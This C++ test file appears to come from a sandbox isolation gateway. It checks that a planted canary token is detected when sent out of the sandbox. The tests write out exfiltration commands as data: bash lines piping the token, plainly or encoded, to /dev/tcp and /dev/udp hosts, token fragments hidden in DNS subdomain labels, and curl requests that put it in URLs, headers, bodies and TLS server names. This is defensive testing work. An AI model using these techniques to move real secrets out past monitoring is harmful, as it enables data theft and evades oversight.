// Planted tokens that leave a sandbox, in each way in which they may be written, through what is
// sunk, relayed, simulated and asked of name servers; beside each the same with another token,
// which nobody planted.
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdlib>
#include <map>
#include <set>

#include "gateway_fixture.h"
#include "test_servers.h"

namespace gyges::isolation {
namespace {

using network::Flow;
using network::FlowVerdict;

constexpr const char* planted = "q7Jd0vXr2mLw9TzA";
constexpr const char* other = "Zk3Qe8yBn5HsU1cF";

struct Way {
  const char* name;
  const char* command;  // writes the token $T in some form
  const char* encoding;
};

// Ports count from the first.
const Way ways[] = {
    {"plain", "printf 'key=%s;' $T", "plain"},
    {"base64", "printf 'a%s' $T | base64", "base64"},
    {"hexadecimal", "printf %s $T | od -An -v -tx1 | tr -d ' \\n'", "hex"},
    {"gzip", "printf 'the key is %s.' $T | gzip", "gzip, plain"},
    {"base64 in gzip", "printf %s $T | base64 | gzip", "gzip, base64"},
    {"percent-encoding", "printf %s $T | od -An -v -tx1 | tr -d '\\n' | tr ' ' %",
     "percent-encoded, plain"},
    {"reversed", "printf %s $T | rev", "reversed"},
};

// Sends each to `host`, one connection for each way at ports from `first` on.
std::string script(const std::string& host, int first, const char* token) {
  std::string text = "T=" + std::string(token) + "\n";
  for (const Way& way : ways)
    text += "{ " + std::string(way.command) + "; } > /dev/tcp/" + host + "/" +
            std::to_string(first++) + "\n";
  return text;
}

class CanaryTest : public SimulatedTest {
 protected:
  static inline const nlohmann::json canaries = {{{"name", "backup key"}, {"token", planted}}};

  // The encodings found in each way, by flows to these ports.
  void expect_found(const std::string& host, std::uint16_t first, FlowVerdict verdict) {
    for (const Way& way : ways) {
      auto flows = flows_to(host, first++);
      ASSERT_EQ(flows.size(), 1U) << way.name;
      EXPECT_EQ(flows[0].verdict, verdict) << way.name;
      std::set<std::string> encodings;
      for (const auto& hit : flows[0].canaries) {
        EXPECT_EQ(hit.canary, "backup key");
        EXPECT_FALSE(hit.evidence.empty());
        encodings.insert(hit.encoding);
      }
      EXPECT_TRUE(encodings.contains(way.encoding))
          << way.name << ": " << (encodings.empty() ? "nothing" : *encodings.begin());
    }
  }
  void expect_nothing(const std::string& host, std::uint16_t first) {
    for (const Way& way : ways) {
      auto flows = flows_to(host, first++);
      ASSERT_EQ(flows.size(), 1U) << way.name;
      EXPECT_GT(flows[0].sent_bytes, 0U) << way.name;
      EXPECT_TRUE(flows[0].canaries.empty()) << way.name;
    }
  }
};

TEST_F(CanaryTest, AreFoundInWhatIsSunk) {
  start_world({{{"name", "pit"}, {"to", {"203.0.113.80"}}, {"action", "sink"}}}, canaries);
  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("203.0.113.80", 1000, planted)}).output, "");
  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("203.0.113.80", 2000, other)}).output, "");
  // The same as one datagram.
  (void)run_argv({"/bin/bash", "-c",
                  "printf '%s' " + std::string(planted) +
                      " > /dev/udp/203.0.113.80/3000; printf %s " + other +
                      " > /dev/udp/203.0.113.80/3001"});
  EXPECT_EQ(stop().network_failure, "");
  expect_found("203.0.113.80", 1000, FlowVerdict::sunk);
  expect_nothing("203.0.113.80", 2000);
  ASSERT_EQ(flows_to("203.0.113.80", 3000).size(), 1U);
  EXPECT_EQ(flows_to("203.0.113.80", 3000)[0].canaries.size(), 1U);
  ASSERT_EQ(flows_to("203.0.113.80", 3001).size(), 1U);
  EXPECT_TRUE(flows_to("203.0.113.80", 3001)[0].canaries.empty());
}

// Nothing of it arrives anywhere; that it was tried is what counts.
TEST_F(CanaryTest, AreFoundInWhatIsRefusedAndInPings) {
  start_world({{{"name", "no"}, {"to", {"203.0.113.80"}}, {"action", "refuse"}}}, canaries);
  for (const char* one : {planted, other}) {
    int port = one == planted ? 1000 : 2000;
    (void)run_argv(
        {"/bin/bash", "-c",
         "printf %s " + std::string(one) + " > /dev/udp/203.0.113.80/" + std::to_string(port)});
    (void)run_argv({"/tmp/attempts", "ping", one == planted ? "192.0.2.1" : "192.0.2.2", one});
  }
  EXPECT_EQ(stop().network_failure, "");
  for (auto [port, hits] : {std::pair{1000, 1U}, std::pair{2000, 0U}}) {
    auto flows = flows_to("203.0.113.80", static_cast<std::uint16_t>(port));
    ASSERT_EQ(flows.size(), 1U);
    EXPECT_EQ(flows[0].verdict, FlowVerdict::refused);
    EXPECT_EQ(flows[0].sent.size, std::string(planted).size());
    EXPECT_EQ(flows[0].canaries.size(), hits);
  }
  auto found = flows_to("192.0.2.1", 0);
  ASSERT_EQ(found.size(), 1U);
  ASSERT_EQ(found[0].canaries.size(), 1U);
  EXPECT_EQ(found[0].canaries[0].place, "ping");
  EXPECT_EQ(found[0].sent.head, planted);
  ASSERT_EQ(flows_to("192.0.2.2", 0).size(), 1U);
  EXPECT_TRUE(flows_to("192.0.2.2", 0)[0].canaries.empty());
}

TEST_F(CanaryTest, AreFoundInWhatIsRelayed) {
  if (::geteuid() != 0) GTEST_SKIP() << "the namespace of the server is made as root";
  OwnNetwork network;
  network.enter();
  start_world({{{"name", "out"}, {"to", {"198.51.100.7"}}, {"action", "relay"}}}, canaries);
  // Nobody listens: what is sent before the refusal comes back is searched all the same, so a
  // server takes the connections one after the other.
  std::map<int, std::unique_ptr<TcpServer>> servers;
  for (int first : {1000, 2000})
    for (std::size_t i = 0; i < std::size(ways); ++i) {
      int port = first + static_cast<int>(i);
      servers[port] = std::make_unique<TcpServer>("198.51.100.7", static_cast<std::uint16_t>(port),
                                                  [](const std::string&) {
                                                    return TcpServer::Reply{"", false};
                                                  });
      ASSERT_TRUE(servers[port]->bound());
    }
  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("198.51.100.7", 1000, planted)}).output, "");
  EXPECT_EQ(run_argv({"/bin/bash", "-c", script("198.51.100.7", 2000, other)}).output, "");
  EXPECT_EQ(stop().network_failure, "");
  expect_found("198.51.100.7", 1000, FlowVerdict::relayed);
  expect_nothing("198.51.100.7", 2000);
  // They did arrive: the search changes nothing.
  EXPECT_NE(servers[1000]->received().find(planted), std::string::npos);
  servers.clear();
}

TEST_F(CanaryTest, AreFoundInNamesAndRequests) {
  if (::access("/usr/bin/curl", X_OK) != 0) GTEST_SKIP() << "this host has no /usr/bin/curl";
  start_world(nlohmann::json::array(), canaries);
  const std::string token = planted, control = other;
  auto dns = [&](const std::string& name) {
    (void)run_argv({"/usr/bin/getent", "ahostsv4", name});
  };
  auto curl = [&](std::vector<std::string> arguments) {
    arguments.insert(arguments.begin(), {"/usr/bin/curl", "-s", "-m", "8", "-o", "/dev/null"});
    (void)run_argv(arguments);
  };
  for (const std::string& one : {token, control}) {
    dns(one.substr(0, 5) + "." + one.substr(5, 6) + "." + one.substr(11) + ".labels.example");
    for (std::size_t i = 0; i < one.size(); i += 4)
      dns(one.substr(i, 4) + (one == token ? ".parts.example" : ".others.example"));
    curl({"http://web.example/hello?key=" + one});
    curl({"-H", "X-Key: " + one, "http://web.example/hello"});
    curl({"-d", "key=" + one, "http://web.example/hello"});
    curl({"-k", "--resolve", one + ".web.example:443:192.0.2.80",
          "https://" + one + ".web.example/hello"});
    curl({"--cacert", "/tmp/authority.pem", "-d", "key=" + one, "https://web.example/hello"});
  }
  EXPECT_EQ(stop().network_failure, "");
  std::map<std::string, int> places;
  for (const Flow& flow : flows())
    for (const auto& hit : flow.canaries) {
      std::string where = std::string(network::to_string(flow.protocol)) + " " + hit.place;
      ++places[where];
      EXPECT_EQ(flow.name.find("others"), std::string::npos);
    }
  std::string found;
  for (const auto& [place, number] : places) found += place + "\n";
  EXPECT_NE(found.find("http http url\n"), std::string::npos) << found;
  EXPECT_NE(found.find("http http header X-Key\n"), std::string::npos) << found;
  EXPECT_EQ(places["http http request body"], 2) << found;  // one of them through TLS
  EXPECT_NE(found.find("dns "), std::string::npos) << found;
  EXPECT_NE(found.find("tls tls server name\n"), std::string::npos) << found;
  std::set<std::string> names;
  for (const Flow& flow : flows())
    if (flow.dns && !flow.canaries.empty())
      for (const char* domain : {"labels", "parts", "others"})
        if (flow.dns->name.find(domain) != std::string::npos) names.insert(domain);
  EXPECT_EQ(names, (std::set<std::string>{"labels", "parts"})) << found;
}

// A service that has ended reads nothing more. What is sent to it all the same, with its last
// request or when its own end has come, stands in the record.
TEST_F(CanaryTest, AreFoundBehindTheEndOfAService) {
  start_world(nlohmann::json::array(), canaries);
  struct End {
    const char* address;
    int port;
    const char* bytes;  // after which the service closes
  };
  constexpr End ends[] = {
      {"192.0.2.25", 25, "QUIT\\r\\n"},
      {"192.0.2.80", 80,
       "GET /hello HTTP/1.1\\r\\nHost: web.example\\r\\nConnection: close\\r\\n\\r\\n"},
      {"192.0.2.80", 80,
       "POST /hello HTTP/1.1\\r\\nHost: web.example\\r\\nExpect: nothing\\r\\n"
       "Content-Length: 99\\r\\n\\r\\n"}};
  // The gateway reads on for 2 s. Where a busy machine took as long for all of it, nobody knows
  // whether the last of it came in time, and it is said once more.
  constexpr int most_ms = 1900;
  std::map<std::string, int> late;  // by destination
  auto say = [&](const End& end, const std::string& with, const std::string& after) {
    for (int attempt = 0; attempt < 10; ++attempt) {
      std::string said =
          run_argv({"/bin/bash", "-c",
                    R"(start=$EPOCHREALTIME; exec 3<>"/dev/tcp/$1/$2" && )"
                    R"(printf %b "$3" > /tmp/said && cat /tmp/said >&3 && )"  // in one piece
                    R"(timeout 5 cat <&3 && printf %s "$4" >&3; end=$EPOCHREALTIME; echo; )"
                    R"(echo $(((${end/[.,]/} - ${start/[.,]/}) / 1000)))",
                    "say", end.address, std::to_string(end.port), end.bytes + with, after})
              .output;
      const std::size_t line = said.rfind('\n', said.size() - 2);
      const int took = std::atoi(said.c_str() + line + 1);
      said.resize(line);
      if (after.empty() || took < most_ms) return said;
      ++late[std::string(end.address) + (after == planted ? " hit" : " kept")];
    }
    ADD_FAILURE() << "ten attempts took too long";
    return std::string();
  };
  for (const End& end : ends)
    for (const char* one : {planted, other}) {
      EXPECT_NE(say(end, one, "").find_first_of("245"), std::string::npos) << end.bytes;
      EXPECT_NE(say(end, "", one).find_first_of("245"), std::string::npos) << end.bytes;
    }
  const bool tls = ::access("/usr/bin/openssl", X_OK) == 0;
  for (const char* one : {planted, other})
    if (tls)
      (void)run(
          "(printf 'GET /hello HTTP/1.1\\r\\nHost: web.example\\r\\nConnection: close"
          "\\r\\n\\r\\n" +
          std::string(one) +
          "'; sleep 1) | timeout 5 openssl s_client -quiet -connect 192.0.2.80:443 "
          "-servername web.example 2>/dev/null");
  EXPECT_EQ(stop().network_failure, "");
  std::map<std::string, int> hits, kept, refused;
  for (const Flow& flow : flows()) {
    if (flow.http && flow.verdict == FlowVerdict::refused)
      for (const auto& hit : flow.canaries) ++refused[hit.place];
    if (flow.protocol != network::FlowProtocol::other) continue;
    EXPECT_EQ(flow.reason, "its service did not read this");
    const std::string to = network::to_string(flow.destination);
    EXPECT_EQ(flow.verdict, FlowVerdict::refused);
    ++kept[to + " " + flow.sent.head];
    for (const auto& hit : flow.canaries) {
      EXPECT_EQ(hit.place, "after the end");
      ++hits[to];
    }
  }
  auto expect = [&](int found, int wanted, const std::string& what) {
    EXPECT_GE(found, wanted) << what;
    EXPECT_LE(found, wanted + late[what]) << what;
  };
  expect(hits["192.0.2.25:25"], 2, "192.0.2.25 hit");
  expect(kept["192.0.2.25:25 " + std::string(other)], 2, "192.0.2.25 kept");
  // What came with the refused request is in its own flow.
  expect(hits["192.0.2.80:80"], 3, "192.0.2.80 hit");
  EXPECT_EQ(refused, (std::map<std::string, int>{{"malformed http request", 1}}));
  EXPECT_EQ(hits["192.0.2.80:443"], tls ? 1 : 0);
  EXPECT_EQ(kept["192.0.2.80:443 " + std::string(other)], tls ? 1 : 0);
}

// What an agent tells its model does not leave, whether the model hears it or not.
TEST_F(CanaryTest, AreNotFoundInWhatAModelIsToldBehindTheEndEither) {
  UniqueFd supervisor;
  adapt_ = [&](SandboxSpec& spec) {
    spec.outlet = [&]() -> Result<UniqueFd> {
      int ends[2] = {-1, -1};
      EXPECT_EQ(::socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, ends), 0);
      supervisor.reset(ends[0]);
      return UniqueFd(ends[1]);
    };
  };
  start_world(nlohmann::json::array(), canaries);
  const std::pair<const char*, const char*> sites[] = {{"192.0.2.80", "web.example"},
                                                       {"192.0.2.90", "model.example"}};
  for (const auto& [address, host] : sites) {
    // More than the flow of what was refused keeps.
    const std::string request = "POST / HTTP/1.1\\r\\nHost: " + std::string(host) +
                                "\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nZZ" +
                                std::string(5000, 'x') + planted;
    const std::string said =
        run_argv({"/bin/bash", "-c",
                  R"(exec 3<>"/dev/tcp/$1/80" && printf %b "$2" >&3 && timeout 5 cat <&3)", "say",
                  address, request})
            .output;
    EXPECT_NE(said.find("HTTP/1.1 400"), std::string::npos) << said;
  }
  EXPECT_EQ(stop().network_failure, "");
  for (const auto& [address, host] : sites) {
    const bool model = host == std::string("model.example");
    std::size_t behind = 0, hits = 0;
    for (const Flow& flow : flows_to(address, 80)) {
      if (model) {
        EXPECT_TRUE(flow.canaries.empty()) << flow.reason;
      }
      if (flow.protocol != network::FlowProtocol::other) continue;
      ++behind;
      EXPECT_NE(flow.sent.head.find(planted), std::string::npos);
      hits += flow.canaries.size();
    }
    EXPECT_EQ(behind, 1U) << host;
    EXPECT_EQ(hits, model ? 0U : 1U) << host;
  }
}

}  // namespace
}  // namespace gyges::isolation
